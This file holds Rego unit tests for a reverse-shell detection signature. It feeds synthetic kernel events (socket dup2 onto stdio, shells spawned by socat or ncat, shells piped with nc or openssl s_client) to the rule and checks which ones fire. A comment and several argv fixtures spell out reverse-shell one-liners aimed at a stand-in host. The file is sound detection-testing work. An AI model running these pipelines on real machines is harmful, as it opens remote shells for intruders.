package vigil.signatures.reverse_shell

sock(origin, port) := {
	"oldfd": 3, "newfd": 0, "flags": 0, "fd_type": "socket",
	"family": "AF_INET", "type": "SOCK_STREAM", "protocol": 6,
	"local_addr": "10.0.0.5", "local_port": 41522, "remote_addr": "203.0.113.9", "remote_port": port,
	"state": "ESTABLISHED", "origin": origin,
}

dup(name, proc, args) := {"name": name, "process": proc, "args": args}

bash := {"pid": 4100, "comm": "bash", "exe": "/usr/bin/bash", "ancestors": [{"pid": 900, "comm": "php-fpm8.2", "exe": "/usr/sbin/php-fpm8.2"}]}

python := {"pid": 4200, "comm": "python3", "exe": "/usr/bin/python3.11"}

test_bash_dev_tcp_fires if {
	some f in finding with input as dup("dup2", bash, sock("connect", 4444))
	f.reasons == ["socket-on-stdio"]
	f.remote_addr == "203.0.113.9"
	f.remote_port == 4444
	f.fd == 0
	f.program == "/usr/bin/bash"
	f.ancestry == ["php-fpm8.2(900)"]
}

test_python_dup3_onto_stdout_fires if {
	args := object.union(sock("connect", 53), {"newfd": 1})
	some f in finding with input as dup("dup3", python, args)
	f.fd == 1
}

test_connected_udp_fires if {
	args := object.union(sock("connect", 53), {"type": "SOCK_DGRAM", "protocol": 17, "newfd": 2})
	count(finding) == 1 with input as dup("dup2", python, args)
}

test_socket_of_unknown_origin_fires if {
	some f in finding with input as dup("dup2", python, sock("", 8080))
	f.origin == ""
}

test_ipv6_fires if {
	args := object.union(sock("connect", 443), {"family": "AF_INET6", "remote_addr": "2001:db8::9"})
	count(finding) == 1 with input as dup("dup2", python, args)
}

test_accepted_socket_is_the_bind_shells if {
	count(finding) == 0 with input as dup("dup2", python, sock("accept", 50123))
}

test_dup_to_a_high_fd_is_quiet if {
	count(finding) == 0 with input as dup("dup2", python, object.union(sock("connect", 4444), {"newfd": 100}))
}

test_pipe_on_stdin_is_quiet if {
	args := {"oldfd": 4, "newfd": 0, "flags": 0, "fd_type": "pipe"}
	count(finding) == 0 with input as dup("dup2", bash, args)
}

test_unix_socket_on_stdio_is_quiet if {
	args := object.union(sock("connect", 0), {"family": "AF_UNIX", "remote_addr": "/run/user/1000/bus"})
	count(finding) == 0 with input as dup("dup2", {"comm": "node", "exe": "/usr/bin/node"}, args)
}

test_unconnected_socket_is_quiet if {
	count(finding) == 0 with input as dup("dup2", python, sock("socket", 0))
}

test_sshd_is_quiet if {
	sshd := {"pid": 700, "comm": "sshd", "exe": "/usr/sbin/sshd"}
	count(finding) == 0 with input as dup("dup2", sshd, sock("", 52211))
}

exec(path, stdin, parent) := {
	"name": "sched_process_exec",
	"process": {"pid": 5000, "comm": "sh", "exe": path, "ancestors": [parent]},
	"args": {"pathname": path, "stdin_type": stdin},
}

socat := {"pid": 4999, "comm": "socat", "exe": "/usr/bin/socat"}

test_shell_from_socat_fires if {
	some f in finding with input as exec("/usr/bin/dash", "socket", socat)
	f.reasons == ["shell-from-relay"]
}

test_python_from_ncat_fires if {
	count(finding) == 1 with input as exec("/usr/bin/python3.12", "socket", {"pid": 1, "comm": "ncat", "exe": "/usr/bin/ncat"})
}

test_shell_with_socket_stdin_from_node_is_quiet if {
	count(finding) == 0 with input as exec("/usr/bin/dash", "socket", {"pid": 1, "comm": "node", "exe": "/usr/bin/node"})
}

test_shell_from_socat_with_pipes_is_quiet if {
	count(finding) == 0 with input as exec("/usr/bin/dash", "pipe", socat)
}

test_non_shell_from_socat_is_quiet if {
	count(finding) == 0 with input as exec("/usr/bin/cat", "socket", socat)
}

# ---- pipelines joined by the sensor ----

piped_exec(path, comm, argv, extra) := {"name": "sched_process_exec", "process": {"pid": 5100, "comm": comm, "exe": path}, "args": object.union({"pathname": path, "argv": argv}, extra)}

test_sh_fed_by_nc_fires if {
	some f in finding with input as piped_exec("/usr/bin/dash", "sh", ["sh"], {"stdin_writer_pid": 5099, "stdin_writer_comm": "nc", "stdin_writer_argv": ["nc", "203.0.113.9", "4444"]})
	f.reasons == ["shell-piped-with-relay"]
}

test_named_pipe_shell_into_nc_fires if {
	# cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f, sh's exec after nc's
	some f in finding with input as piped_exec("/usr/bin/dash", "sh", ["/bin/sh", "-i"], {"stdin_writer_comm": "cat", "stdin_writer_argv": ["cat", "/tmp/f"], "stdout_reader_pid": 5101, "stdout_reader_comm": "nc", "stdout_reader_argv": ["nc", "203.0.113.9", "4444"]})
	f.reasons == ["shell-piped-with-relay"]
}

test_nc_after_the_shell_fires if {
	some f in finding with input as piped_exec("/usr/bin/nc.openbsd", "nc", ["nc", "203.0.113.9", "4444"], {"stdin_writer_pid": 5098, "stdin_writer_comm": "sh", "stdin_writer_argv": ["sh", "-i"]})
	f.reasons == ["shell-piped-with-relay"]
}

test_openssl_s_client_fires if {
	some f in finding with input as piped_exec("/usr/bin/openssl", "openssl", ["openssl", "s_client", "-quiet", "-connect", "203.0.113.9:443"], {"stdout_reader_pid": 5102, "stdout_reader_comm": "bash", "stdout_reader_argv": ["bash"]})
	f.reasons == ["shell-piped-with-relay"]
}

test_script_output_into_nc_is_quiet if {
	count(finding) == 0 with input as piped_exec("/usr/bin/nc.openbsd", "nc", ["nc", "10.0.0.2", "2003"], {"stdin_writer_pid": 5098, "stdin_writer_comm": "sh", "stdin_writer_argv": ["sh", "/usr/local/bin/metrics.sh"]})
}

test_nc_into_tar_is_quiet if {
	count(finding) == 0 with input as piped_exec("/usr/bin/nc.openbsd", "nc", ["nc", "-l", "9000"], {"stdout_reader_pid": 5103, "stdout_reader_comm": "tar", "stdout_reader_argv": ["tar", "x"]})
}

test_openssl_digest_into_sh_c_is_quiet if {
	count(finding) == 0 with input as piped_exec("/usr/bin/dash", "sh", ["sh", "-c", "read h; echo $h"], {"stdin_writer_comm": "openssl", "stdin_writer_argv": ["openssl", "dgst", "-sha256"]})
}
